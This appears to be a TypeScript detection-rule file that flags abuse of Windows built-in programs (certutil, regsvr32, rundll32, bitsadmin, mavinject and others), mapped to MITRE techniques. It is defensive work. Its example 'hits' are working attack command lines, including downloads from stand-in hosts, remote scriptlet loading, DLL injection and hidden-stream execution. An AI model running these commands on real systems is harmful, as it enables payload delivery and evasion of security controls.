/**
 * Programs of Windows that run, fetch or hide something else for whoever calls them ("living off the land"): the operand makes the difference, so each row looks
 * at what the program is given, never at its name alone where honest use exists.
 */
import { behaviour } from './behaviour.ts';
import { isWritablePlace } from './places.ts';
import { all, any, arg, holds, onProcess, onText, type ProcessTest, type Row } from './row.ts';
import type { Confidence, Severity, Tactic } from '../types.ts';
import { USES, proxied, writableArg, url, unc, stream, isStream } from './lolbin-uses.ts';

/** One row of the short table: name, programs, what is tested, and how it weighs. */
interface Short {
  readonly id: string;
  readonly programs: readonly string[];
  readonly test?: ProcessTest;
  readonly technique: string;
  readonly tactic?: Tactic;
  readonly level?: readonly [Severity, Confidence];
  readonly reason: string;
  readonly benign?: readonly string[];
  readonly hits: readonly string[];
  readonly misses: readonly string[];
}

const SHORT: readonly Short[] = [
  {
    id: 'certutil-fetch',
    programs: ['certutil'],
    test: all(any(holds('urlcache', 'verifyctl', 'url')), url),
    technique: 'T1105',
    tactic: 'command-and-control',
    level: ['critical', 'high'],
    reason: 'The certificate tool fetches a file from the network, which it is hardly ever used for.',
    benign: ['checks of a revocation list'],
    hits: [
      'certutil -urlcache -split -f http://a.example.net/a.exe a.exe',
      'certutil.exe -verifyctl -f -split http://a.example.net/a',
    ],
    misses: ['certutil -hashfile a.exe SHA256', 'certutil -store My'],
  },
  {
    id: 'certutil-code',
    programs: ['certutil'],
    test: arg(/^[-/](?:decode|decodehex|encode|encodehex)$/),
    technique: 'T1140',
    level: ['high', 'medium'],
    reason: 'The certificate tool turns a file into text or back, which hides a program on its way.',
    benign: ['administrators convert a certificate'],
    hits: ['certutil -decode a.txt a.exe', 'certutil /encode a.exe a.txt'],
    misses: ['certutil -dump a.cer'],
  },
  {
    id: 'bits-fetch',
    programs: ['bitsadmin'],
    test: any(arg(/^\/(?:transfer|addfile|setnotifycmdline|create)$/)),
    technique: 'T1197',
    level: ['medium', 'high'],
    reason: 'The background transfer service is used by hand to fetch a file or to run a program when it has.',
    benign: ['old update scripts'],
    hits: [
      'bitsadmin /transfer j http://a.example.net/a.exe C:\\a.exe',
      'bitsadmin /SetNotifyCmdLine j C:\\a.exe NULL',
    ],
    misses: ['bitsadmin /list /allusers'],
  },
  {
    id: 'bits-cmdlet',
    programs: ['start-bitstransfer'],
    test: any(writableArg, holds('.exe', '.dll', '.ps1')),
    technique: 'T1197',
    level: ['low', 'high'],
    reason: 'The background transfer service fetches a program or a file into a folder of the user.',
    benign: ['deployment scripts'],
    hits: ['powershell "Start-BitsTransfer -Source https://a.example.net/z.zip -Destination C:\\Users\\Public\\z.zip"'],
    misses: ['powershell "Get-BitsTransfer -AllUsers"'],
  },
  {
    id: 'regsvr32-script',
    programs: ['regsvr32'],
    test: any(arg(/^[-/]i:["']?(?:https?:|ftp:|\\\\|.*\.(?:sct|xml|txt))/), holds('scrobj')),
    technique: 'T1218.010',
    level: ['critical', 'high'],
    reason: 'The registration tool runs a script, from the network if told so.',
    hits: ['regsvr32 /s /n /u /i:http://a.example.net/f.sct scrobj.dll'],
    misses: ['regsvr32 /s C:\\Windows\\System32\\a.dll'],
  },
  {
    id: 'regsvr32-odd-file',
    programs: ['regsvr32'],
    test: ({ args }) =>
      args.find(
        ({ role, lower }) =>
          role !== 'flag' &&
          (isWritablePlace(lower) || lower.startsWith('\\\\') || !/\.(?:dll|ocx|ax|cpl|drv)["']?$/.test(lower)),
      ),
    technique: 'T1218.010',
    level: ['high', 'medium'],
    reason: 'A library in a folder of the user, or a file that is no library by its name, is registered and so run.',
    benign: ['installers for one user'],
    hits: ['regsvr32 /s C:\\Users\\Public\\a.dll', 'regsvr32 a.jpg'],
    misses: ['regsvr32 /s "C:\\Program Files\\A\\a.dll"'],
  },
  {
    id: 'rundll32-script',
    programs: ['rundll32'],
    test: holds(
      'javascript:',
      'vbscript:',
      'mshtml',
      'runhtmlapplication',
      'pcwutl',
      'launchapplication',
      'advpack',
      'ieadvpack',
      'launchinfsection',
      'installhinfsection',
      'routethecall',
      'openurl',
      'fileprotocolhandler',
      'shellexec_rundll',
      'syssetup',
      'setupinfobjectinstallaction',
      'dfshim',
      'scrobj',
      'ieframe',
      'registerocx',
      'zipfldr',
      'setupapi',
      'shdocvw',
      'url.dll',
      'davsetcookie',
      'desk.cpl,installscreensaver',
    ),
    technique: 'T1218.011',
    level: ['high', 'high'],
    reason: 'A function of a system library is called that runs a script, a page or another program.',
    hits: [
      'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";document.write()',
      'rundll32 advpack.dll,LaunchINFSection a.inf,DefaultInstall_SingleUser,1,',
    ],
    misses: [
      'rundll32.exe shell32.dll,Control_RunDLL timedate.cpl',
      'rundll32 printui.dll,PrintUIEntry /in /n \\\\srv\\p',
    ],
  },
  {
    id: 'rundll32-odd-file',
    programs: ['rundll32'],
    test: ({ args }) => args.find(({ role, lower }) => role !== 'flag' && isOddLibrary(lower)),
    technique: 'T1218.011',
    level: ['high', 'high'],
    reason: 'A function is called in a file from a folder of the user, or in one that is no library by its name.',
    hits: [
      'rundll32 C:\\Users\\jd\\AppData\\Local\\Temp\\a.dat,DllRegisterServer',
      'rundll32 C:\\ProgramData\\a.dll,Start',
      'rundll32.exe C:\\x\\_WT.init,krnl',
    ],
    misses: ['rundll32.exe C:\\Windows\\System32\\shell32.dll,OpenAs_RunDLL a.txt'],
  },
  {
    id: 'rundll32-ordinal',
    programs: ['rundll32'],
    test: arg(/^"?[^,]{1,300}[", ]#\d+/),
    technique: 'T1218.011',
    level: ['medium', 'medium'],
    reason: 'A function is called by its number, which hides what it does.',
    benign: ['some control panels'],
    hits: ['rundll32 C:\\x\\a.dll,#1'],
    misses: ['rundll32 shell32.dll,Control_RunDLL'],
  },
  {
    id: 'rundll32-shares',
    programs: [
      'rundll32',
      'regsvr32',
      'cmstp',
      'installutil',
      'odbcconf',
      'mavinject',
      'msbuild',
      'control',
      'presentationhost',
      'hh',
    ],
    test: (process, scene) =>
      process.args.some(({ lower }) => lower.includes('printui')) ? undefined : unc(process, scene),
    technique: 'T1218',
    level: ['high', 'medium'],
    reason: 'A library or file that lies on another machine is run by a program of Windows.',
    benign: ['software shares of the company'],
    hits: ['rundll32 \\\\203.0.113.9\\s\\a.dll,Start'],
    misses: ['rundll32 printui.dll,PrintUIEntry'],
  },
  {
    id: 'installutil-run',
    programs: ['installutil', 'regasm', 'regsvcs'],
    test: any(arg(/^[-/]u/), writableArg, arg(/^\/logfile=/)),
    technique: 'T1218.009',
    level: ['high', 'medium'],
    reason: 'A .NET registration tool runs code of a library, outside application control.',
    benign: ['developers register a service'],
    hits: ['installutil /logfile= /LogToConsole=false /U C:\\x\\a.dll', 'regasm /U C:\\Users\\Public\\a.dll'],
    misses: ['regasm C:\\Program Files\\A\\a.dll /codebase'],
  },
  {
    id: 'msbuild-project',
    programs: ['msbuild'],
    test: ({ args }) =>
      args.find(
        ({ role, lower }) =>
          role !== 'flag' && (isWritablePlace(lower) || /\.(?:xml|txt|csproj\.txt|rsp|log)$/.test(lower)),
      ),
    technique: 'T1127.001',
    level: ['high', 'medium'],
    reason:
      'The build tool runs the code of a project in a folder of the user, or of a file that is no project by its name.',
    benign: ['developers build there'],
    hits: ['msbuild C:\\Users\\jd\\AppData\\Local\\Temp\\a.csproj', 'msbuild a.xml'],
    misses: ['msbuild src\\app.sln /p:Configuration=Release'],
  },
  {
    id: 'compiler-odd',
    programs: ['csc', 'vbc', 'jsc', 'ilasm'],
    test: (process, scene) =>
      process.args.some(({ lower }) => lower.includes('temporary asp')) ? undefined : writableArg(process, scene),
    technique: 'T1027.004',
    level: ['high', 'low'],
    reason: 'Source code in a folder of the user is compiled by the compiler of the system.',
    benign: ['web applications compile their pages', 'developers'],
    hits: ['csc.exe /out:C:\\Windows\\Temp\\a.exe C:\\Users\\jd\\AppData\\Roaming\\a.cs'],
    misses: ['csc /target:library /out:bin\\a.dll src\\a.cs'],
  },
  {
    id: 'cmstp-run',
    programs: ['cmstp'],
    test: any(arg(/^[-/](?:s|ni|au|ns)$/), holds('.inf')),
    technique: 'T1218.003',
    level: ['high', 'high'],
    reason: 'The connection manager installs a profile quietly, which runs what the profile says.',
    benign: ['roll-out of a VPN profile'],
    hits: ['cmstp.exe /s C:\\x\\a.inf', 'cmstp /ni /s https://a.example.net/a.inf'],
    misses: ['cmdkey /list'],
  },
  {
    id: 'odbcconf-run',
    programs: ['odbcconf'],
    test: any(holds('regsvr'), arg(/^[-/]f$/)),
    technique: 'T1218.008',
    level: ['critical', 'high'],
    reason: 'The ODBC tool registers a library, which runs it.',
    hits: ['odbcconf /S /A {REGSVR "C:\\x\\a.dll"}', 'odbcconf -f a.rsp'],
    misses: ['odbcconf /A {CONFIGDSN "SQL Server" "DSN=a"}'],
  },
  {
    id: 'mavinject',
    programs: ['mavinject', 'mavinject32', 'mavinject64'],
    technique: 'T1055.001',
    level: ['critical', 'high'],
    reason: 'A library is put into a running process by a tool of Windows made for virtual applications.',
    hits: ['mavinject 1000 /INJECTRUNNING C:\\x\\a.dll'],
    misses: ['tasklist /m a.dll'],
  },
  {
    id: 'help-run',
    programs: ['hh'],
    test: any(url, unc, writableArg, arg(/^-decompile$/), holds('.chm')),
    technique: 'T1218.001',
    level: ['high', 'medium'],
    reason: 'The help viewer opens a file, whose scripts then run.',
    benign: ['help of installed software'],
    hits: ['hh.exe C:\\Users\\jd\\AppData\\Local\\Temp\\a.chm', 'hh http://a.example.net/a.html'],
    misses: ['notepad a.chm.txt'],
  },
  {
    id: 'control-panel-run',
    programs: ['control'],
    test: ({ args }) =>
      args.find(
        ({ lower }) =>
          isWritablePlace(lower) ||
          (/^[a-z]:\\.*\.(?:dll|txt|dat)$|:\w+\.dll|\.cpl$/.test(lower) &&
            /[\\/]/.test(lower) &&
            !/system32/.test(lower)),
      ),
    technique: 'T1218.002',
    level: ['high', 'medium'],
    reason: 'A file is opened as a control panel, which runs it as a library.',
    hits: ['control.exe C:\\Users\\jd\\a.cpl'],
    misses: ['control.exe timedate.cpl'],
  },
  {
    id: 'proxy-starter',
    programs: [],
    test: proxied,
    technique: 'T1218',
    level: ['medium', 'medium'],
    reason: 'A program of Windows that can run or fetch something else is used in the way that does so.',
    benign: ['its rare honest use by administrators and developers'],
    hits: [
      'pcalua.exe -a C:\\x\\a.exe',
      'forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe',
      'SyncAppvPublishingServer.exe "n;Start-Process calc"',
      'MpCmdRun.exe -DownloadFile -url https://a.example.net/a -path C:\\a',
      'winword.exe http://a.example.net/a.dll',
      'Gpscript /logon',
      'desktopimgdownldr /lockscreenurl:https://a.example.net/x /eventName:d',
      'conhost --headless powershell calc',
    ],
    misses: [
      'forfiles /p D:\\logs /d -30 /c "cmd /c del @path"',
      'findstr /i error a.log',
      'tar -xzf a.tgz',
      'sc query',
      'winget install --id 7zip.7zip',
      'netsh interface show interface',
      'explorer.exe C:\\Users',
    ],
  },
  {
    id: 'stream-use',
    programs: ['*'],
    test: any(
      (process) => (isStream(process.program.toLowerCase()) ? process : undefined),
      all(
        ({ name }, scene) =>
          scene.os === 'windows' && STREAM_TOOLS.has(name)
            ? { text: '', lower: '', role: 'word', span: { start: 0, end: 0 } }
            : undefined,
        stream,
      ),
      ({ args }, { os }) =>
        os === 'windows' ? args.find(({ role, lower }) => role === 'target' && isStream(lower)) : undefined,
    ),
    technique: 'T1564.004',
    level: ['high', 'high'],
    reason: 'A program or text is put into a hidden stream beside a file, or run from one.',
    benign: [],
    hits: [
      'type C:\\x\\a.exe > C:\\y\\notes.txt:a.exe',
      'wmic process call create "c:\\ads\\file.txt:program.exe"',
      'esentutl /y a.exe /d C:\\y\\b.txt:a.exe /o',
    ],
    misses: ['type a.txt > C:\\y\\b.txt', 'curl http://a.example.net:8080/x'],
  },
  {
    id: 'network-library',
    programs: ['ms-appinstaller', 'appinstaller', 'start', 'explorer', 'search-ms', 'ms-msdt', 'ms-officecmd', 'cmd'],
    test: ({ args, program }) =>
      args.find(({ lower }) => /^(?:ms-appinstaller|search-ms|ms-msdt|ms-officecmd|ms-search|search):/.test(lower)) ??
      (/^(?:ms-appinstaller|search-ms|ms-msdt|ms-officecmd):/.test(program) ? undefined : undefined),
    technique: 'T1218',
    level: ['high', 'high'],
    reason: 'An address of a special kind is opened, which makes a program of Windows fetch or run something.',
    hits: ['start ms-appinstaller://?source=https://a.example.net/x'],
    misses: ['start https://a.example.net/'],
  },
  {
    id: 'dotnet-script',
    programs: ['add-type', 'csc'],
    test: ({ args }) =>
      args.find(({ lower }) => /process\.start\(|\[dllimport|kernel32|ntdll/.test(lower.slice(0, 4000))),
    technique: 'T1027.004',
    level: ['high', 'medium'],
    reason: 'Source code in the line calls into the system and is compiled on the spot.',
    hits: ['powershell "Add-Type -TypeDefinition \'class A { [DllImport(\\"kernel32\\")] static extern int F(); }\'"'],
    misses: ['powershell "Add-Type -AssemblyName System.Web"'],
  },
  {
    id: 'svc-binary-odd',
    programs: ['sc', 'new-service'],
    test: ({ args }) =>
      args.find(
        ({ lower }) =>
          isWritablePlace(lower.replace(/^binpath= ?"?/i, '')) ||
          /(?:cmd(?:\.exe)? \/c|powershell|%comspec%|rundll32|mshta|regsvr32)/.test(lower),
      ),
    technique: 'T1543.003',
    tactic: 'persistence',
    level: ['critical', 'high'],
    reason: 'A service is made that starts an interpreter or a program in a folder of the user.',
    hits: [
      'sc create x binPath= "cmd.exe /c powershell -enc AAAA"',
      'sc \\\\srv1 create x binPath= C:\\Windows\\Temp\\a.exe',
    ],
    misses: ['sc create x binPath= "C:\\Program Files\\A\\svc.exe" start= auto'],
  },
];

const STREAM_TOOLS = new Set([
  'esentutl',
  'expand',
  'extrac32',
  'findstr',
  'makecab',
  'certutil',
  'wmic',
  'rundll32',
  'regsvr32',
  'cscript',
  'wscript',
  'mpcmdrun',
  'print',
  'reg',
  'regedit',
  'set-content',
  'add-content',
  'control',
  'powershell',
  'bitsadmin',
  'copy',
  'mklink',
  'more',
  'get-content',
  'start',
  'sc',
  'forfiles',
  'mavinject',
  'appvlp',
  'diantz',
  'cmstp',
  'ftp',
  'notepad',
  'tar',
  'type',
  'curl',
]);

function isOddLibrary(text: string): boolean {
  const file = text.replace(/^["']/, '').split(/[,"']/)[0] ?? '';
  if (/^(?:javascript|vbscript):/.test(file)) return false;
  if (isWritablePlace(file) && /[\\/]/.test(file)) return true;
  return /[\\/]/.test(file) && /\.\w{1,5}$/.test(file) && !/\.(?:dll|cpl|ocx|drv|ax|exe|inf|theme)$/.test(file);
}

export const LOLBIN: readonly Row[] = [
  ...SHORT.map(
    ({
      id,
      programs,
      test,
      technique,
      tactic = 'defense-evasion',
      level: [severity, confidence] = ['high', 'medium'],
      reason,
      benign = [],
      hits,
      misses,
    }) =>
      behaviour(id, ['proxy', technique, tactic, severity, confidence], {
        reason,
        benign,
        hits,
        misses,
        look: onProcess(id === 'proxy-starter' ? Object.keys(USES) : programs, test),
      }),
  ),
  behaviour('scriptlet', ['proxy', 'T1218.010', 'defense-evasion', 'critical', 'high'], {
    reason: 'A script component is loaded from an address.',
    benign: [],
    hits: [
      'rundll32 javascript:"..";GetObject("script:http://a.example.net/a.sct")',
      'cscript pubprn.vbs 127.0.0.1 script:https://a.example.net/a.sct',
    ],
    misses: ['cscript slmgr.vbs /dli'],
    look: onText(
      [
        'script:http',
        'getobject("script',
        "getobject('script",
        'winrm.vbs',
        'pubprn.vbs',
        'syncappvpublishingserver.vbs',
        'manage-bde.wsf',
        'cl_invocation.ps1',
        'cl_mutexverifiers',
        'cl_loadassembly',
        'utilityfunctions.ps1',
        'launch-vsdevshell.ps1',
      ],
      ({ lower }, at, literal) =>
        !literal.startsWith('winrm') || /(?:invoke|create|wmicimv2|format:)/.test(lower.slice(at)),
    ),
  }),
];
